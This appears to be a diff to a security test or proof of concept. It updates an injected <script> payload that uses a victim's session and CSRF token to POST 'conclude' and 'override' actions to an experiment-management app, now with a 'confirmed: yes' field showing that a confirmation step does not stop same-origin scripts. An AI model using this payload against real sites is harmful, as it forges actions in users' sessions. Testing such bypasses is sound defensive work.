@@ -28,7 +28,8 @@ const PAYLOAD = `<script>
   });
   for (const action of ["conclude", "override"]) {
     await attempt(action, async () => {
-      const body = new URLSearchParams({ csrf, shipped_variant_slug: "b", reason: "from the preview" });
+      // With the confirmation step's own field: a same-origin script can send it as easily as a form.
+      const body = new URLSearchParams({ csrf, shipped_variant_slug: "b", reason: "from the preview", confirmed: "yes" });
       const r = await fetch(base + "/" + action, { method: "POST", credentials: "include", body });
       return String(r.status);
     });
@@ -39,7 +40,7 @@ const PAYLOAD = `<script>
     f.method = "post";
     f.action = base + "/override";
     f.target = "_blank";
-    for (const [k, v] of [["csrf", csrf], ["shipped_variant_slug", "b"], ["reason", "form"]]) {
+    for (const [k, v] of [["csrf", csrf], ["shipped_variant_slug", "b"], ["reason", "form"], ["confirmed", "yes"]]) {
       const i = document.createElement("input");
       i.name = k;
       i.value = v;
